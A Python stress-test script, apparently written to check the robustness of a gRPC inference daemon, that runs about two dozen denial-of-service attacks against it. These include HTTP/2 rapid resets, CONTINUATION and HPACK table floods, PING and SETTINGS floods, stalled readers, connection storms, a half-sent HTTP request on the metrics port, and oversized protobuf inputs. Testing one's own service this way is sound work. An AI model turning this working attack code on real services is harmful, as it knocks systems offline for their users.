#!/usr/bin/python3
"""Peers that mean harm, each in a process of its own, at the lowest priority and from an address of its own.

usage: hostile_peers.py GRPC_ADDRESS METRICS_ADDRESS ATTACK SOURCE SECONDS
"""
import os
import select
import socket
import struct
import sys
import threading
import time

import daemon
from daemon import pb
from raw_http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE,
                       RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, framed, header, request_headers)

MAX_FRAME_BYTES = 16384
MESSAGE_LIMIT_BYTES = 4 << 20
MAX_ROUNDS = 5000  # of one attack, however quickly it is turned away
GENERATION = "/latentd.v1.Generation/"
HEALTH = "/grpc.health.v1.Health/"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


class Peer:
    """One connection from SOURCE, which sends what it is told as far as the daemon's windows let it."""

    def __init__(self, address, source, window=65535):
        host, port = address.rsplit(":", 1)
        self.authority, self.next_stream = address, 1
        self.socket = socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))
        self.connection_window, self.initial_window, self.stream_windows = 65535, 65535, {}
        self.unread = b""
        self.send(PREFACE + frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        self.socket.sendall(data)

    def headers(self, path, flags=END_HEADERS):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.stream_windows[stream] = self.initial_window
        self.send(frame(HEADERS, flags, stream, request_headers(path, self.authority)))
        return stream

    def call(self, path, message, withheld_bytes=0):
        """Sends all of a request but its last bytes; with none withheld the stream is half closed."""
        body = message if isinstance(message, bytes) else message.SerializeToString()
        stream = self.headers(path)
        data = framed(body)
        data = data[:len(data) - withheld_bytes]
        while data:
            room = min(len(data), MAX_FRAME_BYTES, self.connection_window, self.stream_windows[stream])
            if room <= 0:
                if not self.take_frames(5):
                    return stream  # the daemon takes no more
                continue
            last = room == len(data) and withheld_bytes == 0
            self.send(frame(DATA, END_STREAM if last else 0, stream, data[:room]))
            self.connection_window -= room
            self.stream_windows[stream] -= room
            data = data[room:]
            self.take_frames(0)
        return stream

    def take_frames(self, seconds):
        """Reads what has come within so long; False if nothing has."""
        if not select.select([self.socket], [], [], seconds)[0]:
            return False
        received = self.socket.recv(1 << 16)
        if not received:
            raise ConnectionError("the daemon closed the connection")
        self.unread += received
        while len(self.unread) >= 9 and len(self.unread) >= 9 + int.from_bytes(self.unread[:3], "big"):
            size = int.from_bytes(self.unread[:3], "big")
            self.on_frame(self.unread[3], self.unread[4], int.from_bytes(self.unread[5:9], "big"),
                          self.unread[9:9 + size])
            self.unread = self.unread[9 + size:]
        return True

    def on_frame(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE:
            grant = int.from_bytes(payload, "big")
            if stream == 0:
                self.connection_window += grant
            elif stream in self.stream_windows:
                self.stream_windows[stream] += grant
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, at)
                if name == INITIAL_WINDOW_SIZE:
                    self.stream_windows = {s: w + value - self.initial_window for s, w in self.stream_windows.items()}
                    self.initial_window = value
            self.send(frame(SETTINGS, ACK))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, payload=payload))

    def read_for(self, seconds):
        until = time.monotonic() + seconds
        while time.monotonic() < until and self.take_frames(max(0, until - time.monotonic())):
            pass


# Each attack is one round: it begins with a connection of its own and is repeated until the time is over.

def quadratic_lists(peer, until):
    ids = list(range(4000, 8000)) * 15
    message = pb.GenerateRequest(text="Once", stopping=pb.Stopping(stop_token_ids=ids, max_tokens=1),
                                 sampling=pb.Sampling(allowed_token_ids=ids))
    peer.call(GENERATION + "Generate", message)
    peer.read_for(2)


def all_wrong(peer, until):
    peer.call(GENERATION + "Generate", pb.GenerateRequest(text="x", stopping=pb.Stopping(stop=[""] * 1_900_000)))
    peer.call(GENERATION + "Chat", pb.ChatRequest(messages=[pb.ChatMessage()] * 1_000_000))
    peer.read_for(2)


def long_texts(peer, until):
    text = "\u202e\u05d0\u0301\u064b\u0627" * (MESSAGE_LIMIT_BYTES // 11)
    peer.call(GENERATION + "Tokenize", pb.TokenizeRequest(text=text))
    peer.call(GENERATION + "Score", pb.ScoreRequest(text=text))
    peer.read_for(4)


def wide_masks(peer, until):
    ids = [5000 + i % 3000 for i in range(1_000_000)]
    message = pb.GenerateRequest(text="Once", stopping=pb.Stopping(max_tokens=64),
                                 sampling=pb.Sampling(allowed_token_ids=ids))
    peer.call(GENERATION + "Generate", message)
    peer.read_for(4)


def half_uploads(peer, until):
    text = "a" * (MESSAGE_LIMIT_BYTES - 100)
    for _ in range(8):
        peer.call(GENERATION + "Tokenize", pb.TokenizeRequest(text=text), withheld_bytes=1)
    peer.read_for(20)


def unread_answers(peer, until):
    for _ in range(6):
        peer.call(GENERATION + "Tokenize", pb.TokenizeRequest(text="a b c d " * 60_000))
    threading.Event().wait(min(10, max(0, until - time.monotonic())))


def connection_storm(peer, until):
    others = [socket.create_connection(peer.socket.getpeername(), timeout=10) for _ in range(150)]
    for other in others:
        other.close()


def header_flood(peer, until):
    peer.headers(GENERATION + "Generate", flags=0)
    noise = header("x-noise", "n" * 100) * 140
    while time.monotonic() < until:
        peer.send(frame(CONTINUATION, 0, 1, noise))


def table_flood(peer, until):
    """HPACK: an entry that fills the dynamic table, then references to it."""
    entry = b"\x40" + bytes([1]) + b"x" + b"\x7f\x80\x1e" + b"v" * 3967
    while time.monotonic() < until:
        stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
        head = request_headers(GENERATION + "Generate", peer.authority) + entry + b"\xbe" * 4000
        peer.send(frame(HEADERS, END_HEADERS, stream, head[:MAX_FRAME_BYTES]))
        peer.take_frames(0)


def rapid_resets(peer, until):
    body = framed(b"x" * 1000)
    while time.monotonic() < until:
        stream = peer.headers(GENERATION + "Generate")
        peer.send(frame(DATA, 0, stream, body) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        peer.take_frames(0)


def small_references(peer, until):
    """The same within what a header block may hold, and no settings acknowledged: gRPC takes any size until then."""
    entry = b"\x40" + bytes([1]) + b"x" + b"\x7f\x80\x1e" + b"v" * 3967
    peer.send(frame(HEADERS, END_HEADERS, 1, request_headers(GENERATION + "Generate", peer.authority) + entry))
    block = request_headers(GENERATION + "Generate", peer.authority) + b"\xbe" * 240
    for stream in range(3, 2000, 2):
        peer.send(frame(HEADERS, END_HEADERS, stream, block))


def abandoned_streams(peer, until):
    for _ in range(1000):
        peer.headers(GENERATION + "Generate")


def ping_flood(peer, until):
    while time.monotonic() < until:
        peer.send(frame(PING, payload=b"12345678") * 100)
        peer.take_frames(0)


def settings_flood(peer, until):
    while time.monotonic() < until:
        peer.send(frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)) * 100)
        peer.take_frames(0)


def stalled_readers(peer, until):
    message = daemon.long_request()
    message.output.logprobs = 32
    for _ in range(8):
        peer.call(GENERATION + "Generate", message)
    threading.Event().wait(min(12, max(0, until - time.monotonic())))


def reflection_streams(peer, until):
    for _ in range(1000):
        peer.headers(REFLECTION)
        peer.take_frames(0)
    peer.read_for(5)


def health_uploads(peer, until):
    """Half of a message each, to services that read at once."""
    for i in range(40):
        peer.call((HEALTH + "Check", HEALTH + "Watch", REFLECTION)[i % 3], b"\x0a\xf8\xff\xff\x01" + b"n" * 4194296,
                  withheld_bytes=1)
    peer.read_for(10)


def bare_checks(peer, until):
    for _ in range(1000):
        peer.headers(HEALTH + "Check")
        peer.take_frames(0)
    peer.read_for(5)


def empty_requests(peer, until):
    while time.monotonic() < until:
        for _ in range(50):
            peer.headers(GENERATION + "Tokenize", END_HEADERS | END_STREAM)
        peer.take_frames(0)


def idle_watches(peer, until):
    for _ in range(400):
        peer.call(HEALTH + "Watch", b"")
    threading.Event().wait(min(10, max(0, until - time.monotonic())))


def reflection_questions(peer, until):
    streams = [peer.headers(REFLECTION) for _ in range(16)]
    question = framed(b"\x22\x15latentd.v1.Generation")
    while time.monotonic() < until:
        for stream in streams:
            peer.send(frame(DATA, 0, stream, question))
        peer.take_frames(0)


def long_names(peer, until):
    for size in (3000, 100_000, 1_000_000):
        chat = pb.ChatRequest(messages=[pb.ChatMessage(role="r" * size, content="x")], model="m" * size,
                              request_id="i" * size)
        chat.template_options.variables_json["v" * size] = "{"
        peer.call(GENERATION + "Chat", chat)
    peer.read_for(1)


def cancelled_calls(peer, until):
    for _ in range(100):
        stream = peer.call(GENERATION + "Generate", daemon.request())
        peer.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def half_http(metrics_address, source, until):
    host, port = metrics_address.rsplit(":", 1)
    halves = [socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0)) for _ in range(40)]
    for half in halves:
        half.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-")
    threading.Event().wait(min(10, max(0, until - time.monotonic())))
    for half in halves:
        half.close()


ATTACKS = [quadratic_lists, all_wrong, long_texts, wide_masks, half_uploads, unread_answers, connection_storm,
           header_flood, table_flood, small_references, rapid_resets, abandoned_streams, ping_flood, settings_flood,
           stalled_readers, reflection_streams, reflection_questions, health_uploads, bare_checks, idle_watches,
           empty_requests, long_names, cancelled_calls, half_http]


def main(address, metrics_address, name, source, seconds):
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # what an attacker computes is not the daemon's cost
    attack = next(a for a in ATTACKS if a.__name__ == name)
    until = time.monotonic() + float(seconds)
    pause = threading.Event()
    rounds = refused = 0
    while time.monotonic() < until and rounds < MAX_ROUNDS:
        rounds += 1
        try:
            if attack is half_http:
                half_http(metrics_address, source, until)
            else:
                window = 0 if attack in (unread_answers, stalled_readers) else 65535
                with Peer(address, source, window) as peer:
                    attack(peer, until)
        except OSError:  # the daemon ended it: all the better
            refused += 1
            pause.wait(0.02)
    print(f"{name} from {source}: {rounds} rounds, {refused} cut short")


if __name__ == "__main__":
    main(*sys.argv[1:])
